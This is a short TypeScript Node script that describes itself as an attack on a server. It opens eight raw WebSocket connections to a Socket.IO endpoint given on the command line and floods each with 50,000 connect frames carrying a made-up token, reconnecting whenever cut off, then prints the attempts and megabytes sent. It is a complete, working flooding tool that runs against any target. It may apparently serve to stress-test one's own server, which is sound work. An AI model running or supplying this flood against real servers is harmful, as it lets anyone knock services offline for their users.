import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'

/**
 * Attacks a server (first argument) for some seconds (second): 8 clients each open a WebSocket,
 * send 50,000 connect packets with an invalid token as fast as they can, and reconnect when they
 * are cut off.
 */
const clients = 8
const packets = 50_000
/** Before reconnecting. Without it, opening connections would take all of the CPU. */
const pauseMs = 20

const url = new URL(process.argv[2] ?? '')
const seconds = Number(process.argv[3])
const text = Buffer.from('40{"token":"made up"}')
/** Masked with zeros, which leaves the text unchanged. */
const frame = Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0]), text])
const flood = Buffer.concat(Array<Buffer>(packets).fill(frame))
const handshake = [
  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
  `Host: ${url.host}`,
  ...['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'],
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  ...['', ''],
].join('\r\n')

const until = performance.now() + seconds * 1_000
let tries = 0
let bytes = 0
await Promise.all(Array.from({ length: clients }, attack))
process.stdout.write(`${JSON.stringify({ tries, sentMiB: Math.round(bytes / 1024 ** 2) })}\n`)
process.exit(0)

async function attack(): Promise<void> {
  while (performance.now() < until) {
    tries += 1
    await tryOnce()
    await setTimeout(pauseMs)
  }
}

function tryOnce(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(url.port), url.hostname)
    const stop = globalThis.setTimeout(() => socket.destroy(), until - performance.now())
    socket.on('error', () => {})
    socket.once('close', () => {
      clearTimeout(stop)
      bytes += socket.bytesWritten
      resolve()
    })
    socket.once('data', (answer) => {
      if (answer.toString('latin1').startsWith('HTTP/1.1 101')) socket.write(flood)
      else socket.destroy()
    })
    socket.write(handshake)
  })
}
